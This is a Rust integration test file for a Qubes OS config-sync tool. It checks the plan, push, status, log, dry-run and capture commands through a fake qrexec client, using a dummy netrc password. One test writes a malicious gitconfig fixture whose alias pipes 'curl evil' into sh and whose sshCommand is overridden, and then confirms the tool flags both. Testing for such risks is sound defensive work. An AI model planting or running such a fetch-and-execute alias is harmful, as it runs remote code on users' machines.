//! `qpm sync` end to end over pipes: the real `qpm` binary pushes through a
//! qrexec-client-vm stand-in that starts the real `qpm-agent` in a
//! per-qube directory.

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

use assert_cmd::Command;

fn agent_bin() -> PathBuf {
    let qpm = PathBuf::from(env!("CARGO_BIN_EXE_qpm"));
    let agent = qpm.with_file_name("qpm-agent");
    if !agent.exists() {
        let cargo = std::env::var("CARGO").unwrap_or_else(|_| "cargo".into());
        let st = std::process::Command::new(cargo)
            .args(["build", "-p", "qpm-agent"])
            .status()
            .unwrap();
        assert!(st.success());
    }
    agent
}

struct World {
    dir: tempfile::TempDir,
}

impl World {
    fn new(qubes: &[(&str, &str)]) -> Self {
        let dir = tempfile::tempdir().unwrap();
        let base = dir.path();
        for (q, cfg) in qubes {
            std::fs::create_dir_all(base.join(q).join("root/home/user")).unwrap();
            std::fs::write(base.join(format!("{q}.toml")), cfg).unwrap();
        }
        let script = format!(
            "#!/bin/sh\n[ \"$1\" = \"--\" ] && shift\nq=\"$1\"\nexec env QREXEC_REMOTE_DOMAIN=cfg {} serve --root {base}/$q/root --state {base}/$q/state --config {base}/$q.toml\n",
            agent_bin().display(),
            base = base.display()
        );
        std::fs::write(base.join("qrexec-client-vm"), script).unwrap();
        std::fs::set_permissions(
            base.join("qrexec-client-vm"),
            std::fs::Permissions::from_mode(0o755),
        )
        .unwrap();
        let repo = base.join("repo");
        std::fs::create_dir_all(repo.join("git")).unwrap();
        std::fs::write(repo.join("git/gitconfig"), "[user]\n\tname = A\n").unwrap();
        std::fs::write(repo.join("netrc"), "machine x password hunter2\n").unwrap();
        std::fs::write(
            repo.join("qpm-sync.toml"),
            "[[file]]\nsrc = \"git/gitconfig\"\ndest = \"~/.gitconfig\"\nto = [\"work\", \"personal\"]\n\n[[file]]\nsrc = \"netrc\"\ndest = \"~/.netrc\"\nto = [\"work\"]\nmode = \"0600\"\nsecret = true\n",
        )
        .unwrap();
        Self { dir }
    }

    fn base(&self) -> &Path {
        self.dir.path()
    }

    fn qpm(&self) -> Command {
        let mut c = Command::cargo_bin("qpm").unwrap();
        c.env("QPM_QREXEC_CLIENT", self.base().join("qrexec-client-vm"))
            .env("QPM_SYNC_REPO", self.base().join("repo"))
            .env("QPM_SYNC_STATE", self.base().join("sender"))
            .env("QPM_SYNC_SOURCE", "cfg")
            .env_remove("DISPLAY");
        c
    }

    fn home(&self, q: &str, p: &str) -> Option<String> {
        std::fs::read_to_string(self.base().join(q).join("root/home/user").join(p)).ok()
    }
}

const AUTO: &str = "auto_apply = [\"~/\"]\ngui = \"never\"\n";
const REVIEW: &str = "gui = \"never\"\n";

#[test]
fn plan_push_status_log() {
    let w = World::new(&[("work", AUTO), ("personal", REVIEW)]);
    let plan = w
        .qpm()
        .args(["sync", "plan"])
        .assert()
        .success()
        .get_output()
        .stdout
        .clone();
    let plan = String::from_utf8(plan).unwrap();
    assert!(plan.contains("work: 2 file(s), 2 change(s)"), "{plan}");
    assert!(plan.contains("+\tname = A"), "{plan}");
    assert!(!plan.contains("hunter2"), "secret printed: {plan}");
    w.qpm().args(["sync", "push"]).assert().success();
    assert_eq!(
        w.home("work", ".gitconfig").unwrap(),
        "[user]\n\tname = A\n"
    );
    assert_eq!(
        w.home("personal", ".gitconfig"),
        None,
        "queued for review there"
    );
    let out = w
        .qpm()
        .args(["--json", "sync", "status"])
        .assert()
        .success()
        .get_output()
        .stdout
        .clone();
    let v: serde_json::Value = serde_json::from_slice(&out).unwrap();
    let qubes = v["qubes"].as_array().unwrap();
    let personal = qubes.iter().find(|q| q["qube"] == "personal").unwrap();
    assert_eq!(personal["status"]["pending"], 1);
    let work = qubes.iter().find(|q| q["qube"] == "work").unwrap();
    assert_eq!(work["status"]["managed"], 2);
    // Nothing changed for work; the plan says so.
    let plan = w
        .qpm()
        .args(["sync", "plan", "work"])
        .assert()
        .success()
        .get_output()
        .stdout
        .clone();
    assert!(
        String::from_utf8(plan)
            .unwrap()
            .contains("work: 2 file(s), 0 change(s)")
    );
    let log = w
        .qpm()
        .args(["--json", "sync", "log"])
        .assert()
        .success()
        .get_output()
        .stdout
        .clone();
    let v: serde_json::Value = serde_json::from_slice(&log).unwrap();
    assert_eq!(v["log"].as_array().unwrap().len(), 2);
    // A second push to work is a no-op.
    let out = w
        .qpm()
        .args(["--json", "sync", "push", "work"])
        .assert()
        .success()
        .get_output()
        .stdout
        .clone();
    let v: serde_json::Value = serde_json::from_slice(&out).unwrap();
    assert_eq!(v["results"][0]["result"]["code"], "unchanged");
    // Dry run writes nothing.
    std::fs::write(w.base().join("repo/git/gitconfig"), "[user]\n\tname = B\n").unwrap();
    w.qpm()
        .args(["sync", "push", "--dry-run", "work"])
        .assert()
        .success();
    assert_eq!(
        w.home("work", ".gitconfig").unwrap(),
        "[user]\n\tname = A\n"
    );
}

#[test]
fn capture_shows_risks_and_needs_consent() {
    let w = World::new(&[("work", AUTO)]);
    std::fs::write(
        w.base().join("work/root/home/user/.gitconfig"),
        "[alias]\n\tpwn = !curl evil | sh\n[core]\n\tsshCommand = evil\n",
    )
    .unwrap();
    let a = w
        .qpm()
        .args(["sync", "capture", "work", "~/.gitconfig"])
        .write_stdin("n\n")
        .assert()
        .code(1);
    let out = String::from_utf8(a.get_output().stdout.clone()).unwrap();
    assert!(
        out.contains("git-alias-shell") && out.contains("git-sshcommand"),
        "{out}"
    );
    assert!(!w.base().join("repo/captured/work/.gitconfig").exists());
    w.qpm()
        .args(["sync", "capture", "--yes", "work", "~/.gitconfig"])
        .assert()
        .code(1);
    assert!(w.base().join("repo/captured/work/.gitconfig").exists());
}

#[test]
fn unreachable_qube_is_an_error_not_a_success() {
    let w = World::new(&[("work", AUTO)]);
    w.qpm()
        .env("QPM_QREXEC_CLIENT", "/nonexistent/qrexec-client-vm")
        .args(["sync", "push", "work"])
        .assert()
        .code(2);
}
